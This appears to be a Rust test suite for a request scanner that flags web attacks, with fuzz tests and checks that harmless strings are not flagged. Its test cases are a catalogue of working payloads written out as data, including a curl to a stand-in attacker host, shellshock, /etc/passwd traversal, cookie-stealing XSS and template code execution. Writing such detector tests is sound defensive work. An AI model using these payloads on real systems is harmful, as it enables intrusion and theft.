use super::*;

fn classes(raw: &str) -> Vec<&'static str> {
    scan_value(raw)
        .classes()
        .into_iter()
        .map(Class::as_str)
        .collect()
}

fn rules(raw: &str) -> Vec<&'static str> {
    scan_value(raw).rules()
}

#[test]
fn each_class_with_its_rule() {
    let cases: &[(&str, &str)] = &[
        ("1' or '1'='1", "sqli.tautology"),
        ("-1 union all select 1,2,version()--", "sqli.union-select"),
        ("admin'--", "sqli.comment-breakout"),
        ("1; drop table users", "sqli.stacked-query"),
        ("1 and sleep(5)", "sqli.time-delay"),
        ("1 and extractvalue(1,concat(0x7e,user()))", "sqli.function"),
        ("%2527%2520or%25201%253D1--", "sqli.tautology"),
        ("{\"$ne\": null}", "nosqli.operator"),
        ("[$ne]=1", "nosqli.operator"),
        ("'; return true; var x='", "nosqli.javascript"),
        (";cat /etc/passwd", "cmdi.separator-command"),
        ("$(whoami)", "cmdi.substitution"),
        ("() { :;}; /bin/bash -c id", "cmdi.shellshock"),
        ("uname -a", "cmdi.command-line"),
        (
            "%0a%1b[2Acurl http://evil.example/x",
            "cmdi.separator-command",
        ),
        ("\\necho x\\n\\033[2Asleep 5\\n", "cmdi.separator-command"),
        ("../../../../etc/passwd", "traversal.dot-dot"),
        ("%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "traversal.dot-dot"),
        ("c:\\windows\\win.ini", "traversal.sensitive-file"),
        ("<script>alert(1)</script>", "xss.script-tag"),
        ("\" onmouseover=\"alert(1)", "xss.event-handler"),
        ("javascript:alert(document.cookie)", "xss.script-url"),
        ("';alert(String.fromCharCode(88))//", "xss.js-call"),
        ("{{7*7}}", "ssti.expression"),
        (
            "{% for x in ().__class__.__base__.__subclasses__() %}",
            "ssti.statement",
        ),
        (
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "ssti.expression",
        ),
        ("*)(uid=*))(|(uid=*", "ldapi.filter-breakout"),
        ("admin)(|(password=*))", "ldapi.filter-breakout"),
    ];
    for (payload, rule) in cases {
        let got = rules(payload);
        assert!(got.contains(rule), "{payload:?}: want {rule}, got {got:?}");
        let class = rule.split('.').next().unwrap();
        assert!(classes(payload).contains(&class), "{payload:?}");
    }
}

#[test]
fn ordinary_values_are_not_attacks() {
    for v in [
        "O'Brien",
        "rock & roll",
        "select a plan",
        "union station",
        "drop shipping from china",
        "5' 11\" tall",
        "it's 5 o'clock; dinner at 6",
        "https://example.com/a?b=1&c=2",
        "{\"name\":\"Ada\",\"tags\":[\"a\",\"b\"]}",
        "<p>Hello <b>world</b></p>",
        "a < b and c > d",
        "1/2 inch",
        "sleep (8 hours)",
        "*",
        "/",
        "SGVsbG8gd29ybGQ=",
        "2024-05-01T12:30:00Z",
        "Price gt 5 and Name eq 'Milk'",
        "run `make test` first",
        "first line\\nsecond line\\n\\033[1mbold\\033[0m",
    ] {
        let v2 = v.replace(' ', "%20");
        assert!(!scan_value(v).is_attack(), "{v:?}: {:?}", rules(v));
        assert!(!scan_value(&v2).is_attack(), "{v2:?}: {:?}", rules(&v2));
    }
}

#[test]
fn requests_are_judged_where_the_input_is() {
    let headers = [
        ("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
        ("Cookie", "session=abc; pref=1' or '1'='1"),
        ("X-Request-Id", "1' or '1'='1"),
    ];
    let v = scan_request(&RequestParts {
        target: "/files/..%2f..%2fetc%2fpasswd?q=%3Cscript%3Ealert(1)%3C/script%3E",
        headers: &headers,
        content_type: Some("application/json"),
        body: br#"{"user":{"name":"x","password":{"$gt":""}},"bio":"{{7*'7'}}"}"#,
    });
    let at = |class: Class, location: Location| {
        v.findings
            .iter()
            .any(|f| f.hit.class == class && f.location == location)
    };
    assert!(at(Class::Traversal, Location::Path));
    assert!(at(Class::Xss, Location::Query));
    assert!(at(Class::Cmdi, Location::Header));
    assert!(
        at(Class::Sqli, Location::Header),
        "cookie values are judged"
    );
    assert!(at(Class::Nosqli, Location::Body));
    assert!(at(Class::Ssti, Location::Body));
    // Headers outside the list are not judged.
    let only_id = scan_request(&RequestParts {
        target: "/",
        headers: &[("X-Request-Id", "1' or '1'='1")],
        ..Default::default()
    });
    assert!(!only_id.is_attack());
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    /// Hostile input never panics, in any reading: value, path, headers, JSON and raw bodies.
    #[test]
    fn total_on_any_input(s in ".{0,200}", bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200)) {
        let _ = scan_value(&s);
        let lossy = String::from_utf8_lossy(&bytes);
        let _ = scan_value(&lossy);
        let target = format!("/{s}?{s}={lossy}");
        let headers = [("User-Agent", s.as_str()), ("Cookie", &*lossy)];
        let _ = scan_request(&RequestParts { target: &target, headers: &headers, content_type: Some("application/json"), body: &bytes });
        let _ = scan_request(&RequestParts { target: &s, headers: &[], content_type: None, body: s.as_bytes() });
    }

    /// Attack-shaped fragments glued to arbitrary text never panic either.
    #[test]
    fn total_on_attack_fragments(a in "[<>'\"();|&$`{}%\\\\*=.!@#a-z0-9 -]{0,80}", b in "\\PC{0,20}") {
        let _ = scan_value(&format!("{a}{b}{a}"));
        let _ = scan_value(&format!("{b}{a}"));
    }
}
